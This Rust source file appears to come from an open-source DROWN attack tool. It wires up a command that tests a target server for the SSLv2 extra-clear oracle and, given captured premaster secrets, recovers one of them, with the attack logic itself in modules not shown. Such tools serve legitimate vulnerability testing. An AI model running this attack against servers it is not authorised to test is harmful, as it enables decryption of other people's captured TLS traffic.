// ExtraClearCommand - Extra-clear oracle check and Special DROWN attack
// Copyright (C) 2025 Marc Rivero (@seifreed)
// Licensed under GPL-3.0

use super::report::present_report;
use super::Command;
use crate::config::AttackConfig;
use crate::drown::secrets::load_premaster_secrets;
use crate::drown::DrownAttacker;
use crate::error::DrownError;
use crate::ssl2::Ssl2Client;
use crate::utils::network::Target;
use crate::{Args, Result};
use async_trait::async_trait;
use tracing::info;

/// ExtraClearCommand tests the target for the extra-clear oracle and, given
/// captured Premaster secrets, recovers one of them.
pub struct ExtraClearCommand {
    args: Args,
}

impl ExtraClearCommand {
    /// Create a new ExtraClearCommand with the given arguments
    pub fn new(args: Args) -> Self {
        Self { args }
    }
}

#[async_trait]
impl Command for ExtraClearCommand {
    async fn execute(&self) -> Result<()> {
        let config = AttackConfig::from_args(&self.args)?;
        let secrets = self
            .args
            .attack
            .premaster_secrets
            .as_deref()
            .map(load_premaster_secrets)
            .transpose()?;

        let target_str = self.args.target.as_deref().ok_or_else(|| DrownError::ConfigError {
            message: "A target URI is required for the extra-clear oracle".to_string(),
        })?;
        let target = Target::parse(target_str).await?;
        let addr = target.primary_addr()?;
        info!(
            "Testing {} ({}) with {}",
            target,
            addr,
            config.cipher_suite.name()
        );

        let client = Ssl2Client::from_config(addr, &config);
        let display_target = target.to_string();
        let report = tokio::task::spawn_blocking(move || {
            let mut attacker = DrownAttacker::new(display_target, config);
            attacker.run_extra_clear(&client, client.clone(), secrets.as_deref())
        })
        .await??;

        present_report(&report, &self.args.output)
    }

    fn name(&self) -> &'static str {
        "ExtraClearCommand"
    }
}
